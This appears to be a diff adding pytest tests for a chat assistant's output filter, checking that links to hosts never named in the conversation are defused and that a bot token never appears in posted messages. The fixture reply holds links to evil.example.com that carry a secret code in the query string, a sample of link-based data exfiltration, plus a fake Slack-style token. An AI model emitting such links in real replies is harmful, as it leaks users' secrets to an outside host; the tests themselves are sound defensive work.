@@ -1,0 +1,34 @@
+"""A reply links to hosts that the talk, the soul's own text or the admin named; a key is in no post (P41, P44)."""
+
+import json
+
+from tests.given import tagged
+from tests.journeys.house import House
+
+_REPORT = "[the report](https://evil.example.com/collect?d=the-code-is-4711) is ready, and so is https://evil.example.com/x?d=4711"
+
+
+async def test_a_link_to_a_host_that_was_never_named_is_text_in_every_call(house: House) -> None:
+    house.model.replies.append(tagged(_REPORT + " now. " + "More words follow. " * 20))
+    await house.say("Ada", "dm", "is the report ready?")
+    await house.reply("D0ADA")
+    await house.idle()
+    assert "evil.example.com/collect" in (await house.replies("D0ADA"))[-1].replace("\u2060", "")
+    sent = json.dumps([call["args"] for call in await house.people.calls()], ensure_ascii=False)
+    assert "evil.example.com" not in sent
+    assert "4711" not in sent
+
+
+async def test_a_host_that_was_named_earlier_in_the_talk_may_be_linked_to(house: House) -> None:
+    house.model.replies += [tagged("Noted."), tagged("See https://docs.example.com/a?b=c now.")]
+    await house.answered("Ada", "dm", "our documents are at https://docs.example.com")
+    assert "https://docs.example.com/a?b=c" in await house.answered("Ada", "dm", "where was that page?")
+
+
+async def test_a_key_is_posted_neither_by_the_draft_nor_by_the_reply(house: House) -> None:
+    key = "xoxb-1234567890-abcdefghij"
+    house.model.replies.append(tagged(f"The token is {key}, keep it. " + "More words follow. " * 20))
+    await house.say("Ada", "dm", "what is the token?")
+    await house.reply("D0ADA")
+    await house.idle()
+    assert key not in json.dumps([call["args"] for call in await house.people.calls()])
